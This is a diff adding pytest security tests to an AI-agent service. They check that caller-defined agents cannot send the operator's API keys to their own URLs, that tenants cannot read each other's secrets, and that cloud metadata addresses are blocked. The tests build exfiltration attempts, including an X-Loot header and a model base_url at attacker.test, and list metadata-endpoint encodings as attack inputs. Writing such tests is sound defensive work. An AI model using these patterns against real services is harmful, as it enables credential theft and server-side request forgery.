@@ -8,6 +8,8 @@ reads a variable or reaches an address the operator did not grant.
 
 from __future__ import annotations
 
+import asyncio
+import logging
 from collections.abc import AsyncIterator
 from contextlib import asynccontextmanager
 from typing import Any
@@ -15,16 +17,20 @@ from uuid import uuid4
 
 import httpx
 import pytest
+from sqlalchemy.ext.asyncio import AsyncEngine
 
 from app.domain.agent import OpenAIModel, ToolSpec
+from app.domain.principal import Scope
 from app.main import create_app
 from app.providers.base import ModelError, ModelRequest
 from app.providers.registry import build_model
+from app.settings import Settings
 from app.tools.base import ToolContext
 from app.tools.http_tool import HttpTools
 from tests.agents import agent, calls, http_tool, python_tool
 from tests.conftest import make_settings, started_client, wait_status
 from tests.crash.harness import tool_server
+from tests.integration.test_auth import bearer, make_key
 from tests.integration.test_tools import http_server
 
 CONTEXT = ToolContext("call_trust", "s-trust", uuid4(), 1)
@@ -203,6 +209,172 @@ async def test_secret_env__a_model_never_sends_a_refused_variable(
     assert "hunter2" not in raised.value.message
 
 
+# -- 2b. secrets bound to destinations: a key goes only where the operator says -----------
+
+DEFAULT_SECRET_ENV = Settings.model_fields["secret_env"].default
+
+
+def loot_agent(agent_id: str, url: str, env: str) -> dict[str, Any]:
+    """A caller's agent whose one tool sends the variable `env` to the caller's own URL."""
+    tool = http_tool("t", url, headers={"X-Loot": {"env": env}})
+    return agent(agent_id, [calls(("t", {})), {"text": "done"}], [tool])
+
+
+async def test_secret_env__by_default_no_definition_can_send_the_operators_key_to_its_url(
+    database_url: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The exfiltration the old default (`*_API_KEY`, egress anywhere) allowed: any key
+    with agents:write names the operator's vendor key in a header to its own listener, or
+    as a model's key with its own `base_url`. The answer is the 422 an unset variable
+    gets: nothing tells the caller the key exists, or where it may go."""
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-operator-openai")
+    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-operator-anthropic")
+    monkeypatch.delenv("NOWHERE_TO_BE_FOUND_API_KEY", raising=False)
+    listener = "http://127.0.0.1:9/loot"
+    async with service(database_url, workers=0, secret_env=DEFAULT_SECRET_ENV) as client:
+        details = set()
+        for name in ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "NOWHERE_TO_BE_FOUND_API_KEY"):
+            body = problem(await client.post("/v1/agents", json=loot_agent("l", listener, name)))
+            assert body["errors"][0]["loc"] == [
+                "body",
+                "tools",
+                "0",
+                "executor",
+                "headers",
+                "X-Loot",
+            ]
+            details.add(body["errors"][0]["msg"].replace(name, "NAME"))
+            for provider in ("openai", "anthropic"):
+                model = {
+                    "provider": provider,
+                    "name": "x",
+                    "base_url": "https://attacker.test/v1",
+                    "api_key_env": name,
+                }
+                body = problem(await client.post("/v1/agents", json={"id": "m", "model": model}))
+                assert body["errors"][0]["loc"] == ["body", "model", "api_key_env"]
+                details.add(body["errors"][0]["msg"].replace(name, "NAME"))
+        # Where it is bound, it still may go.
+        vendor = {"provider": "openai", "name": "gpt-x", "api_key_env": "OPENAI_API_KEY"}
+        created = await client.post("/v1/agents", json={"id": "v", "model": vendor})
+        assert created.status_code == 201, created.text
+    assert len(details) == 1, details
+
+
+async def test_secret_env__a_definition_stored_under_the_old_default_cannot_send_it_either(
+    api: httpx.AsyncClient, database_url: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Stored while `*_API_KEY` sent any key anywhere: the worker checks the binding at
+    each call, on the URL it is about to request."""
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-operator-openai")
+    with http_server({"/loot": (200, b"{}", 0)}) as (base, seen):
+        async with service(database_url, workers=0, secret_env="*_API_KEY") as loose:
+            body = loot_agent("old", f"{base}/loot", "OPENAI_API_KEY")
+            assert (await loose.post("/v1/agents", json=body)).status_code == 201
+            sent = await loose.post(
+                "/v1/sessions/old-1/runs", json={"agent_id": "old", "input": "x"}
+            )
+        async with service(database_url, secret_env=DEFAULT_SECRET_ENV) as tight:
+            run = await wait_status(tight, sent.json()["id"], {"finished", "failed"})
+            items = (await tight.get("/v1/sessions/old-1/messages")).json()["items"]
+    assert seen == [], "the listener must receive nothing"
+    assert run["status"] == "finished", run  # the run goes on: the model hears the refusal
+    [(_, status, content)] = tool_results(items)
+    assert (status, content["error"]) == ("error", "configuration")
+    assert "sk-operator" not in str(items)
+
+
+async def test_secret_env__a_tenant_placeholder_keeps_each_tenants_variables_its_own(
+    database_url: str, engine: AsyncEngine, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("TENANT_ACME_TOOL_API_KEY", "acme-secret")
+    monkeypatch.setenv("TENANT_GLOBEX_TOOL_API_KEY", "globex-secret")
+    monkeypatch.delenv("TENANT_GLOBEX_NOPE_API_KEY", raising=False)
+    scopes = {Scope.AGENTS_WRITE, Scope.RUNS_WRITE, Scope.RUNS_READ}
+    keys = {tenant: await make_key(engine, scopes, tenant=tenant) for tenant in ("acme", "globex")}
+    settings = make_settings(database_url, secret_env="TENANT_{tenant}_*_API_KEY@127.0.0.1:*")
+    with http_server({"/t": (200, b"{}", 0)}) as (base, seen):
+        app = create_app(settings, pool_concurrency=2, open_when_keyless=False)
+        async for client in started_client(app):
+            as_globex = bearer(keys["globex"])
+            details = set()
+            for name in ("TENANT_ACME_TOOL_API_KEY", "TENANT_GLOBEX_NOPE_API_KEY"):
+                body = loot_agent("l", f"{base}/t", name)
+                refused = problem(await client.post("/v1/agents", json=body, headers=as_globex))
+                assert refused["errors"][0]["loc"][-1] == "X-Loot"
+                details.add(detail_without(refused, name))
+            assert len(details) == 1, details  # acme's variable reads as unset to globex
+            for tenant in ("acme", "globex"):
+                auth = bearer(keys[tenant])
+                body = loot_agent("l", f"{base}/t", f"TENANT_{tenant.upper()}_TOOL_API_KEY")
+                created = await client.post("/v1/agents", json=body, headers=auth)
+                assert created.status_code == 201, created.text
+                sent = await client.post(
+                    "/v1/sessions/s/runs", json={"agent_id": "l", "input": "x"}, headers=auth
+                )
+                for _ in range(200):
+                    run = (await client.get(f"/v1/runs/{sent.json()['id']}", headers=auth)).json()
+                    if run["status"] in {"finished", "failed"}:
+                        break
+                    await asyncio.sleep(0.05)
+                assert run["status"] == "finished", run
+    assert sorted(s["headers"]["X-Loot"] for s in seen) == ["acme-secret", "globex-secret"]
+
+
+async def test_secret_env__a_model_reads_its_runs_tenants_variable_in_the_worker(
+    database_url: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from tests.providers.fake_servers import OPENAI_PATH, fake_server, openai_reply
+
+    monkeypatch.setenv("TENANT_DEFAULT_LLM_API_KEY", "sk-default-tenant")
+    with fake_server(OPENAI_PATH) as server:
+        server.push(openai_reply("hello"))
+        grant = "TENANT_{tenant}_*_API_KEY@127.0.0.1:*"
+        async with service(database_url, secret_env=grant) as client:  # open: `default`
+            model = {
+                "provider": "openai",
+                "name": "gpt-x",
+                "base_url": f"{server.url}/v1",
+                "api_key_env": "TENANT_DEFAULT_LLM_API_KEY",
+            }
+            created = await client.post("/v1/agents", json={"id": "m", "model": model})
+            assert created.status_code == 201, created.text
+            sent = await client.post("/v1/sessions/m-1/runs", json={"agent_id": "m", "input": "x"})
+            run = await wait_status(client, sent.json()["id"], {"finished", "failed"})
+    assert run["status"] == "finished", run
+    assert [r.headers["authorization"] for r in server.requests] == ["Bearer sk-default-tenant"]
+
+
+async def test_secret_env__an_unbound_grant_is_warned_of_at_start(
+    database_url: str, caplog: pytest.LogCaptureFixture
+) -> None:
+    caplog.set_level(logging.WARNING, logger="perdure")
+    grants = "LOOT_API_KEY,OPENAI_API_KEY@api.openai.com"
+    async with service(database_url, workers=0, secret_env=grants):
+        pass
+    warned = [r.getMessage() for r in caplog.records if "unbound secret grant" in r.getMessage()]
+    assert len(warned) == 1, warned
+    assert "LOOT_API_KEY" in warned[0]
+    assert "any definition can send it anywhere egress allows" in warned[0]
+
+
+@pytest.mark.parametrize("name", ["database_url", "Database_URL", "perdure_secret_env"])
+async def test_secret_env__the_never_readable_names_are_never_readable_in_any_case(
+    database_url: str, monkeypatch: pytest.MonkeyPatch, name: str
+) -> None:
+    """pydantic-settings reads `database_url` as DATABASE_URL: the never-list must too."""
+    monkeypatch.setenv(name, "postgresql://app:hunter2@db/prod")
+    async with service(database_url, workers=0, secret_env="*") as client:
+        model = {
+            "provider": "openai",
+            "name": "gpt-x",
+            "base_url": "http://127.0.0.1:9/v1",
+            "api_key_env": name,
+        }
+        body = problem(await client.post("/v1/agents", json={"id": "k", "model": model}))
+    assert body["errors"][0]["loc"] == ["body", "model", "api_key_env"]
+
+
 # -- 3. egress: where http tools and models may connect ----------------------------------
 
 
@@ -216,6 +388,9 @@ async def test_secret_env__a_model_never_sends_a_refused_variable(
         "http://metadata.google.internal/computeMetadata/v1/",
         "http://METADATA.google.internal./x",
         "http://2852039166/",  # 169.254.169.254 as one decimal number
+        "http://168.63.129.16/machine?comp=goalstate",  # Azure WireServer
+        "http://[fd00:ec2::253]/",  # AWS's fd00:ec2::/32
+        "http://[64:ff9b:1::a9fe:a9fe]/",  # local-use NAT64 to 169.254.169.254
     ],
 )
 async def test_egress__a_metadata_address_is_422_at_definition_time(
@@ -228,6 +403,19 @@ async def test_egress__a_metadata_address_is_422_at_definition_time(
     model = {"provider": "openai", "name": "gpt-x", "base_url": url}
     body = problem(await api.post("/v1/agents", json={"id": "m2", "model": model}))
     assert body["errors"][0]["loc"] == ["body", "model", "base_url"]
+
+
+@pytest.mark.parametrize("url", ["https://xn--/v1", "https://a.xn--zz/v1"])
+async def test_egress__a_host_that_does_not_decode_is_checked_as_sent_not_a_500(
+    api: httpx.AsyncClient, url: str
+) -> None:
+    """httpx decodes `xn--` labels for `.host` (and raises on a malformed one), but sends
+    and connects to the encoded name: the rules read that one."""
+    tool = http_tool("t", url, headers={"X-Key": {"env": "TEST_NOPE_API_KEY"}})
+    response = await api.post("/v1/agents", json=agent("x", [{"text": "x"}], [tool]))
+    assert problem(response)["errors"][0]["loc"][-1] == "X-Key"
+    model = {"provider": "openai", "name": "gpt-x", "base_url": url}
+    assert (await api.post("/v1/agents", json={"id": "m", "model": model})).status_code == 201
 
 
 async def test_egress__an_allow_list_without_loopback_refuses_at_connect_time(
@@ -297,7 +485,7 @@ async def test_scripted_model__a_definition_stored_before_disabling_fails_in_the
 async def test_agent_read__literal_secret_header_values_are_redacted(
     api: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setenv("UPSTREAM_API_KEY", "from-env")
+    monkeypatch.setenv("TEST_UPSTREAM_API_KEY", "from-env")
     headers = {
         "Authorization": "Bearer sk-literal-1",
         "Cookie": "session=literal-2",
@@ -305,7 +493,7 @@ async def test_agent_read__literal_secret_header_values_are_redacted(
         "X-Auth-Token": "literal-4",
         "X-Client-Secret": "literal-5",
         "X-Team": "payments",
-        "X-Upstream-Key": {"env": "UPSTREAM_API_KEY"},
+        "X-Upstream-Key": {"env": "TEST_UPSTREAM_API_KEY"},
     }
     tool = http_tool("t", "http://127.0.0.1:9/t", headers=headers)
     created = await api.post("/v1/agents", json=agent("r", [{"text": "x"}], [tool]))
@@ -321,7 +509,7 @@ async def test_agent_read__literal_secret_header_values_are_redacted(
             "X-Auth-Token": "***",
             "X-Client-Secret": "***",
             "X-Team": "payments",
-            "X-Upstream-Key": {"env": "UPSTREAM_API_KEY"},
+            "X-Upstream-Key": {"env": "TEST_UPSTREAM_API_KEY"},
         }
     # Sending a read back as is would store the placeholder: refused, not a broken tool.
     server_owned = ("id", "version", "fingerprint", "created_at")
